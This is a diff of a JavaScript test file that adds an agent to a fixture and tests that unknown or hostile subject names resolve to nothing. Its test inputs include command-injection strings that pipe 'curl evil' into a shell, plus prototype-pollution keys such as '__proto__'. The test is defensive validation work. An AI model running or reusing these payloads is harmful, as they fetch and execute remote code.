@@ -6,6 +6,7 @@ const sight = {
   machines: { mainpc: at("mainpc"), pc2: at("pc2") },
   satellites: { nas: { askedBy: "pc2" } },
   services: [{ name: "NLUAgent", owner: "pc2" }],
+  agents: [{ machine: "pc2", name: "TutorAgent" }],
 };
 
 it("a machine has the other one as its peer, and both hubs' addresses", () => {
@@ -31,6 +32,15 @@ it("a service stands for the machine that owns it, an agent for its own, a satel
   });
 });
 
-it("a name that nobody knows has nothing but itself", () => {
-  expect(placesOf("elsewhere", sight)).toMatchObject({ machine: "elsewhere", peer: undefined, peerHub: undefined });
+it.each([
+  "elsewhere",
+  "pc2/Nobody",
+  "pc2/TutorAgent/more",
+  'pc2"; curl evil|sh',
+  'pc2/"; curl evil|sh',
+  "constructor",
+  "__proto__",
+  "constructor/name",
+])("%s, which nobody knows, has nothing, not even itself", (subject) => {
+  expect(Object.values(placesOf(subject, sight)).filter((value) => value !== undefined)).toEqual([]);
 });
